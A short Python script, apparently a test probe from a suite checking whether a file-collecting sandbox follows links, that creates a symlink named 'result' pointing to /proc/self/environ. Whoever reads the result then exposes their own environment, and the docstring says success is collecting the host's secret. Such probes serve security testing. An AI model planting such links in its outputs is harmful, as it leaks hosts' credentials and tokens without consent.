"""Leaves a link that means the environment of whoever follows it.

walls: links
success: what is collected holds the host's secret
"""

import os

os.symlink("/proc/self/environ", "result")
